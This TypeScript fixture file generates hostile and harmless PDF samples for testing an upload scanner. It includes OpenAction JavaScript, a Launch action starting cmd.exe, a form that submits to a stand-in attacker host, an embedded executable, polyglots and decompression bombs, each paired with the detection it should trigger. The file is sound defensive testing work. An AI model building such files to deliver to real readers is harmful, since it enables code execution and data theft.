import { deflateSync } from 'node:zlib';
import type { HostileFile } from './hostile-file.ts';
import { encryptedPdf, flateStream, packedPdf, pdf, pdfStream, vietnamesePdf } from './pdf-bytes.ts';
import { zipBytes } from './zip-bytes.ts';

const MEGABYTE = 1024 * 1024;
const join = (...pieces: readonly (Uint8Array | string)[]): Buffer =>
  Buffer.concat(pieces.map((piece) => (typeof piece === 'string' ? Buffer.from(piece, 'latin1') : piece)));
const action = (dictionary: string): Buffer => pdf({ catalog: `/OpenAction << ${dictionary} >>` });
const archive = (comment?: Uint8Array): Buffer => zipBytes([{ name: 'a.class', data: 'x' }], comment);

/** PDFs that run, carry, hide, explode or are broken; and harmless ones that look as if. */
export const HOSTILE_PDFS: readonly HostileFile[] = [
  { title: 'a PDF', name: 'quyet-dinh.pdf', bytes: () => pdf(), expect: [] },
  {
    title: 'a signed PDF',
    name: 'da-ky.pdf',
    bytes: () =>
      pdf({
        catalog: '/AcroForm << /SigFlags 3 /Fields [5 0 R] >>',
        more: [
          '<< /FT /Sig /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /V 6 0 R >>',
          '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 10 20 30] /Contents <3082> >>',
        ],
      }),
    expect: [],
  },
  {
    title: 'a scan without text',
    name: 'ban-quet.pdf',
    bytes: () => pdf({ content: pdfStream('') }),
    expect: [],
  },
  {
    title: 'blank lines before the header',
    name: 'dong-trong.pdf',
    bytes: () => join('\r\n', pdf()),
    expect: ['pdf-repaired'],
  },
  {
    title: 'the names of dangerous things inside a text',
    name: 'noi-ve.pdf',
    bytes: () => pdf({ trailer: '/Info << /Title (/JS /Launch << /S /JavaScript >> \\) /EmbeddedFile) >>' }),
    expect: [],
  },
  {
    title: 'empty lists of scripts and of files',
    name: 'danh-sach-rong.pdf',
    bytes: () => pdf({ catalog: '/Names << /JavaScript << /Names [] >> /EmbeddedFiles << /Names [] >> >>' }),
    expect: [],
  },
  {
    title: 'opening at a page',
    name: 'mo-trang.pdf',
    bytes: () => pdf({ catalog: '/OpenAction [5 0 R /Fit]' }),
    expect: [],
  },
  {
    title: 'junk before the header',
    name: 'rac-dau.pdf',
    bytes: () => join('GIF89a    ', pdf()),
    expect: ['polyglot'],
  },
  {
    title: 'a page within the first bytes',
    name: 'html.pdf',
    bytes: () => pdf({ head: '%PDF-1.7\n%<html><script>alert(1)</script>\n' }),
    expect: ['polyglot'],
  },
  {
    title: 'a ZIP behind the end',
    name: 'zip.pdf',
    bytes: () => join(pdf(), archive()),
    expect: ['polyglot'],
  },
  {
    title: 'a ZIP whose comment covers the end',
    name: 'zip-chu-thich.pdf',
    bytes: () => join('%PDF-1.7\n', archive(pdf())),
    expect: ['polyglot'],
  },
  {
    title: 'a page behind the end',
    name: 'html-sau.pdf',
    bytes: () => join(pdf(), '<script>1</script>'),
    expect: ['polyglot'],
  },
  {
    title: 'a program behind the end',
    name: 'exe-sau.pdf',
    bytes: () => join(pdf(), 'MZ\x90\0\x03\0'),
    expect: ['polyglot'],
  },
  {
    title: 'a few stray bytes behind the end',
    name: 'thua.pdf',
    bytes: () => join(pdf(), 'abc'),
    expect: ['trailing-data'],
  },
  {
    title: 'the end missing',
    name: 'cut.pdf',
    bytes: () => pdf().subarray(0, -60),
    expect: ['pdf-truncated'],
  },
  {
    title: 'cut in the second revision',
    name: 'cut-lan-hai.pdf',
    bytes: () => join(pdf(), '4 0 obj\n<< /Type /Font'),
    expect: ['pdf-truncated'],
  },
  {
    title: 'nothing between header and end',
    name: 'rong.pdf',
    bytes: () => join('%PDF-1.7\nxin chao\n%%EOF'),
    expect: ['pdf-damaged', 'pdf-repaired'],
  },
  {
    title: 'a wrong place of the table',
    name: 'bang-sai.pdf',
    bytes: () => pdf({ startxref: 7 }),
    expect: ['pdf-repaired'],
  },
  {
    title: 'a page tree that leads to itself',
    name: 'vong.pdf',
    bytes: () => {
      const bytes = pdf().toString('latin1');
      return Buffer.from(bytes.replace('/Kids [5 0 R]', '/Kids [2 0 R]'), 'latin1');
    },
    expect: ['pdf-damaged'],
  },
  {
    title: 'a password for opening',
    name: 'mat-khau.pdf',
    bytes: () => encryptedPdf('bimat'),
    expect: ['pdf-password'],
  },
  {
    title: 'printing forbidden',
    name: 'cam-in.pdf',
    bytes: () => encryptedPdf(''),
    expect: ['pdf-restricted'],
  },
  {
    title: 'JavaScript on opening',
    name: 'js.pdf',
    bytes: () => action('/S /JavaScript /JS (app.alert\\(1\\))'),
    expect: ['pdf-javascript'],
  },
  {
    title: 'JavaScript under an escaped name',
    name: 'js-thoat.pdf',
    bytes: () => action('/S /J#61vaScript /#4AS (1)'),
    expect: ['pdf-javascript'],
  },
  {
    title: 'JavaScript in packed objects',
    name: 'js-nen.pdf',
    bytes: () => packedPdf('<< /S /JavaScript /JS (1) >>'),
    expect: ['pdf-javascript'],
  },
  {
    title: 'JavaScript in packed objects that do not say what they are',
    name: 'js-giau.pdf',
    bytes: () => packedPdf('<< /S /JavaScript /JS (1) >>', '/Type /Metadata'),
    expect: ['pdf-javascript'],
  },
  {
    title: 'JavaScript twice named, the second time harmless',
    name: 'js-hai-lan.pdf',
    bytes: () => action('/S /JavaScript /S /GoTo'),
    expect: ['pdf-javascript'],
  },
  {
    title: 'objects packed by an unusual filter',
    name: 'bo-loc.pdf',
    bytes: () => packedPdf('<< /S /JavaScript /JS (1) >>', '/Type /ObjStm', '/Filter /LZWDecode'),
    expect: ['pdf-hidden-content'],
  },
  {
    title: 'an action that starts a program',
    name: 'chay.pdf',
    bytes: () => action('/S /Launch /Win << /F (cmd.exe) >>'),
    expect: ['launches-program'],
  },
  {
    title: 'a form that sends its content away',
    name: 'gui.pdf',
    bytes: () => action('/S /SubmitForm /F (https://evil.example)'),
    expect: ['launches-program'],
  },
  {
    title: 'a file attached inside',
    name: 'kem.pdf',
    bytes: () =>
      pdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>',
        more: ['<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>', pdfStream('MZ', '/Type /EmbeddedFile')],
      }),
    expect: ['pdf-embedded-files'],
  },
  {
    title: 'a dynamic form',
    name: 'xfa.pdf',
    bytes: () => pdf({ catalog: '/AcroForm << /XFA 5 0 R /Fields [] >>', more: [pdfStream('<xdp/>')] }),
    expect: ['pdf-dynamic-form'],
  },
  {
    title: 'a link into another PDF',
    name: 'tro-ngoai.pdf',
    bytes: () => action('/S /GoToR /F (khac.pdf) /D [0 /Fit]'),
    expect: ['external-link'],
  },
  {
    title: '10 000 pages',
    name: 'nhieu-trang.pdf',
    bytes: () => pdf({ pages: 10_000 }),
    expect: ['too-many-pages'],
  },
  {
    title: 'a page of seven metres',
    name: 'kho-lon.pdf',
    bytes: () => pdf({ page: '/CropBox [0 0 20000 20000]' }),
    expect: ['page-too-large'],
  },
  {
    title: 'a picture of 20 000 × 20 000',
    name: 'anh-lon.pdf',
    bytes: () => pdf({ more: [pdfStream('', '/Subtype /Image /Width 20000 /Height 20000')] }),
    expect: ['image-too-large'],
  },
  {
    title: 'content that unpacks to 80 MB',
    name: 'bom.pdf',
    bytes: () => pdf({ content: flateStream(Buffer.alloc(80 * MEGABYTE, ' ')) }),
    expect: ['pdf-bomb'],
  },
  {
    title: 'content packed twice',
    name: 'bom-hai-lan.pdf',
    bytes: () =>
      pdf({ content: pdfStream(deflateSync(deflateSync('x')), '/Filter [/FlateDecode /FlateDecode]') }),
    expect: ['pdf-bomb'],
  },
  {
    title: 'packed objects that unpack to 80 MB',
    name: 'bom-doi-tuong.pdf',
    bytes: () => packedPdf(' '.repeat(80 * MEGABYTE)),
    expect: ['pdf-bomb'],
  },
  {
    title: 'a bomb that calls itself a picture',
    name: 'bom-gia-anh.pdf',
    bytes: () =>
      pdf({ content: flateStream(Buffer.alloc(80 * MEGABYTE, ' '), '/Subtype /Image /Width 9 /Height 9') }),
    expect: ['pdf-hidden-content'],
  },
  {
    title: 'dictionaries nested 100 000 deep',
    name: 'sau.pdf',
    bytes: () => pdf({ more: ['<< /A '.repeat(100_000)] }),
    expect: ['pdf-damaged'],
  },
  {
    title: 'a mark of secrecy',
    name: 'mat.pdf',
    bytes: () => vietnamesePdf(['ỦY BAN NHÂN DÂN', 'TUYỆT MẬT', 'Số: 12/BC-UBND']),
    expect: ['state-secret-mark'],
  },
  {
    title: 'secrecy mentioned in a heading',
    name: 'bao-ve.pdf',
    bytes: () => vietnamesePdf(['Kế hoạch bảo vệ bí mật nhà nước']),
    expect: [],
  },
];
